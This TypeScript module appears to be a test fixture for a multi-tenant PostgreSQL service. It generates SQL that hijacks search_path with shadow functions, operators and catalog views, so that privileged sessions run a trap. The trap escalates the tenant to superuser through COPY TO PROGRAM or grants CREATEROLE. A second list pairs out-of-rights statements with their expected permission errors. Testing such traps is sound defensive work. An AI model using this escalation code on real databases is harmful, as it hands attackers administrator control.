/** What a hostile tenant can put into its own database, so that a privileged connection to it runs the tenant's code. */

/** The line that PostgreSQL's log has for each time the tenant's code ran as another role; a rollback keeps it. */
export const strike = /STRIKE by (\S+) in (\S+)/g;

/** Real functions, by arguments and result, and how the tenant's own passes its arguments on. */
const functions: readonly (readonly [name: string, takes: string, returns: string])[] = [
  ["pg_advisory_xact_lock", "bigint", "void"],
  ["pg_get_userbyid", "oid", "name"],
  ["version", "", "pg_catalog.text"],
  ["current_database", "", "name"],
  [
    "aclexplode",
    "aclitem[], OUT grantor oid, OUT grantee oid, OUT privilege_type pg_catalog.text, OUT is_grantable boolean",
    "",
  ],
  ["array_remove", "anycompatiblearray, anycompatible", "anycompatiblearray"],
  ["to_regprocedure", "pg_catalog.text", "regprocedure"],
  ["pg_terminate_backend", "integer", "boolean"],
  ["pg_backend_pid", "", "integer"],
  ["has_database_privilege", "name, oid, pg_catalog.text", "boolean"],
  ["has_database_privilege", "oid, oid, pg_catalog.text", "boolean"],
  ["format", 'pg_catalog.text, VARIADIC "any"', ""],
];

const operators: readonly (readonly [name: string, left: string, right: string])[] = [
  ["=", "name", "name"],
  ["=", "name", "pg_catalog.text"],
  ["=", "pg_catalog.text", "pg_catalog.text"],
  ["=", "oid", "oid"],
  ["<>", "integer", "integer"],
  [">", "timestamptz", "timestamptz"],
];

const relations = [
  "pg_roles",
  "pg_authid",
  "pg_database",
  "pg_auth_members",
  "pg_default_acl",
  "pg_namespace",
  "pg_proc",
];

/** Statements with which the owner of a database prepares it; all of them are within its rights. */
export function ambush(database: string, role: string): string[] {
  const shadows = functions
    .filter(([, , returns]) => returns !== "")
    .map(([name, takes, returns], index) => {
      const values =
        takes === ""
          ? ""
          : takes
              .split(", ")
              .map((_, at) => `$${at + 1}`)
              .join(", ");
      return `create function evil.${name}(${takes}) returns ${returns} language plpgsql as $f$ begin
        perform evil.struck('${name} ${index}'); return ${returns === "void" ? "" : `pg_catalog.${name}(${values})`}; end $f$`;
    });
  const signs = operators.flatMap(([name, left, right], index) => [
    `create function evil.sign${index}(${left}, ${right}) returns boolean language plpgsql as $f$ begin
      perform evil.struck('operator ${name}(${left},${right})'); return $1 OPERATOR(pg_catalog.${name}) $2; end $f$`,
    `create operator evil.${name} (leftarg = ${left}, rightarg = ${right}, function = evil.sign${index})`,
  ]);
  return [
    "create schema evil",
    "grant all on schema evil to public",
    // Out of the transaction, as a refresh rolls its own back; an administrator that is no superuser would do it itself.
    `create function evil.struck(what pg_catalog.text) returns boolean language plpgsql set search_path = pg_catalog as $f$
    begin
      if session_user = '${role}' and current_user = '${role}' then return true; end if;
      raise log 'STRIKE by % in %', session_user, replace(what, ' ', '_');
      begin
        if (select rolsuper from pg_roles where rolname = current_user) then
          execute $p$copy (select 1) to program 'psql -qX -U postgres -d postgres -c "alter role ${role} superuser"'$p$;
        else
          execute 'alter role ${role} createrole createdb';
        end if;
      exception when others then null;
      end;
      return true;
    end $f$`,
    ...shadows,
    ...signs,
    `create domain evil.text as pg_catalog.text check (evil.struck('domain text'))`,
    ...relations.map(
      (name) => `create view evil.${name} as select * from pg_catalog.${name} where evil.struck('view ${name}')`,
    ),
    "grant select on all tables in schema evil to public",
    `alter database ${database} set search_path = evil, pg_catalog, public`,
    `alter role ${role} set search_path = evil, pg_catalog, public`,
    `alter role ${role} in database ${database} set search_path = evil, pg_catalog, public`,
  ];
}

/** What it tries beyond its rights, with PostgreSQL's words for each. */
export const beyond = (database: string, role: string): Readonly<Record<string, RegExp>> => ({
  "create event trigger evil on ddl_command_start execute function evil.trap()":
    /permission denied to create event trigger/,
  "create cast (oid as bigint) with function evil.to_bigint(oid) as implicit":
    /must be owner of type oid or type bigint/,
  "create function pg_catalog.evil() returns int language sql as 'select 1'": /permission denied for schema pg_catalog/,
  [`alter database ${database} set session_preload_libraries = 'evil'`]: /permission denied to set parameter/,
  [`alter role berth_admin in database ${database} set search_path = evil`]: /permission denied|must have/,
  [`alter role postgres set search_path = evil`]: /permission denied|must be superuser/,
  [`alter role ${role} superuser`]: /permission denied|must be superuser/,
  [`alter role ${role} createrole`]: /permission denied/,
  [`grant berth_admin to ${role}`]: /permission denied|must have admin option/,
  [`grant pg_execute_server_program to ${role}`]: /permission denied|must have admin option/,
  "create or replace function pgbouncer.get_auth(login text) returns int language sql as 'select 1'":
    /permission denied for schema pgbouncer/,
});
